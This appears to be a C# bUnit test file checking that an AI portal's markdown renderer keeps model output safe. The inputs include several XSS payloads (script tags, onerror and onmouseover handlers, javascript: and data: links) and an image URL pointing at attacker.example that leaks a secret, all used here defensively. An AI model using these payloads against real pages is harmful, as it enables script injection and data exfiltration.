using AiNative.Portal.Client.Components.Markdown;
using Bunit;

namespace AiNative.Portal.Tests.Markdown;

public sealed class MarkdownViewTests : BunitContext
{
    [Fact]
    public void Script_and_event_handler_html_in_model_output_render_inert_as_text()
    {
        var view = RenderMarkdown("Hello <script>alert('x')</script> and <img src=x onerror=alert(2)> <b onmouseover=alert(3)>bold</b>");

        Assert.Empty(view.FindAll("script"));
        Assert.Empty(view.FindAll("img"));
        Assert.Empty(view.FindAll("b"));
        Assert.Empty(EventHandlerAttributes(view));
        Assert.Contains("<script>alert('x')</script>", view.Find("[data-testid=markdown-view]").TextContent);
        Assert.Contains("<img src=x onerror=alert(2)>", view.Find("[data-testid=markdown-view]").TextContent);
    }

    [Fact]
    public void Citation_markers_of_an_answers_sources_become_links_and_other_brackets_stay_text()
    {
        var view = Render<MarkdownView>(p => p
            .Add(v => v.Markdown, "Paid in **14 days** [1]. Ships daily [1, 2]. See [7], `[2]` and [the guide](https://example.com/[2]).")
            .Add(v => v.Citations, new HashSet<int> { 1, 2 }));

        var links = view.FindAll("a[data-citation]");
        Assert.Equal([("1", "[1]"), ("1", "1"), ("2", "2")], links.Select(a => (a.GetAttribute("data-citation")!, a.TextContent)));
        Assert.Equal(["#source-1", "#source-1", "#source-2"], links.Select(a => a.GetAttribute("href")!));
        Assert.Equal(["Open source [1]", "Open source [1]", "Open source [2]"], links.Select(a => a.GetAttribute("aria-label")!));
        var text = view.Find("[data-testid=markdown-view]").TextContent;
        Assert.Contains("Ships daily [1, 2].", text);
        Assert.Contains("See [7]", text);
        Assert.Equal("[2]", view.Find("code").TextContent);
        Assert.Empty(view.FindAll("strong a, a a"));
    }

    [Fact]
    public void A_citation_link_the_script_reports_opens_its_source()
    {
        JSInterop.Mode = JSRuntimeMode.Loose;
        var opened = new List<int>();
        var view = Render<MarkdownView>(p => p
            .Add(v => v.Markdown, "Paid in 14 days [2].")
            .Add(v => v.Citations, new HashSet<int> { 1, 2 })
            .Add(v => v.OnCitation, n => opened.Add(n)));

        view.InvokeAsync(() => view.Instance.OpenCitationAsync(2));

        Assert.Equal([2], opened);
        JSInterop.VerifyInvoke("import");
    }

    [Fact]
    public void Markdown_renders_headings_emphasis_lists_code_and_tables()
    {
        var view = RenderMarkdown("""
            ## Steps

            1. Open **Prompts**
            2. Move the *production* label

            ```csharp
            var x = 1 < 2;
            ```

            | Label | Version |
            |---|--:|
            | production | 2 |
            """);

        Assert.Equal("Steps", view.Find("h2").TextContent);
        Assert.Equal(["Open Prompts", "Move the production label"], view.FindAll("ol > li").Select(li => li.TextContent));
        Assert.Equal("Prompts", view.Find("strong").TextContent);
        Assert.Equal("production", view.Find("em").TextContent);
        Assert.Equal("var x = 1 < 2;", view.Find("pre > code").TextContent.Trim());
        Assert.Equal(["production", "2"], view.FindAll("tbody td").Select(td => td.TextContent));
    }

    [Fact]
    public void Script_links_lose_their_address_and_web_links_open_apart_from_the_portal()
    {
        var view = RenderMarkdown("[click](javascript:alert(1)) <javascript:alert(2)> [data](data:text/html,<script>x</script>) [docs](https://example.com/docs)");

        var links = view.FindAll("a");
        Assert.All(links, a => Assert.DoesNotContain("javascript:", a.GetAttribute("href") ?? string.Empty, StringComparison.OrdinalIgnoreCase));
        Assert.All(links, a => Assert.DoesNotContain("data:", a.GetAttribute("href") ?? string.Empty, StringComparison.OrdinalIgnoreCase));
        var docs = links.Single(a => a.GetAttribute("href") == "https://example.com/docs");
        Assert.Equal(("_blank", "noopener noreferrer nofollow"), (docs.GetAttribute("target"), docs.GetAttribute("rel")));
    }

    [Fact]
    public void Images_become_links_so_nothing_is_fetched_from_the_address_in_the_text()
    {
        var view = RenderMarkdown("![chart](https://attacker.example/pixel.png?secret=abc)");

        Assert.Empty(view.FindAll("img"));
        var link = view.Find("a");
        Assert.Equal(("https://attacker.example/pixel.png?secret=abc", "chart"), (link.GetAttribute("href"), link.TextContent));
    }

    [Fact]
    public void Attribute_syntax_adds_no_attributes()
    {
        var view = RenderMarkdown("# Title {onclick=alert(1) .danger}");

        Assert.Empty(EventHandlerAttributes(view));
        Assert.Null(view.Find("h1").GetAttribute("class"));
    }

    private IRenderedComponent<MarkdownView> RenderMarkdown(string markdown) =>
        Render<MarkdownView>(parameters => parameters.Add(p => p.Markdown, markdown));

    private static IEnumerable<string> EventHandlerAttributes(IRenderedComponent<MarkdownView> view) =>
        view.FindAll("*").SelectMany(element => element.Attributes).Select(a => a.Name).Where(name => name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
}
